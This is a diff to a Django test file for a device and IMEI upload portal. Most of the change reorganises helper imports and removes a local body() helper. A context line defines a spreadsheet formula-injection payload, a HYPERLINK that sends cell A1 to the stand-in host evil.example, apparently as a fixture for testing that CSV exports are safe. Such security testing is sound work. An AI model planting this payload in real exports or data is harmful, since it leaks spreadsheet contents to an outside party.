@@ -16,11 +16,8 @@ from django.test.utils import CaptureQueriesContext
 from kdp.models import Customer, Device, submit_upload
 from kdp.tasks import run_transfer
 from portal.models import AuditEvent, Job
-from tests.base import BaseTestCase, make_user
-from tests.kdp.conftest import imei_csv, make_upload
-from tests.kdp.test_job_views import finished_job
-from tests.kdp.test_transfer import fresh_imeis
-from tests.kdp.test_upload_views import ready_account
+from tests.base import BaseTestCase, body, fresh_imeis, make_user
+from tests.kdp.helpers import finished_job, imei_csv, make_upload, ready_account
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
@@ -40,10 +37,6 @@ def listed(html: str) -> list[str]:
 def next_link(html: str) -> str | None:
     m = re.search(r'<a href="(\?[^"]*)" hx-get="[^"]*"[^>]*>Next page</a>', html)
     return unescape(m.group(1)) if m else None
-
-
-def body(response) -> bytes:
-    return b"".join(response.streaming_content) if response.streaming else response.content
 
 
 class DeviceListTestCase(BaseTestCase):
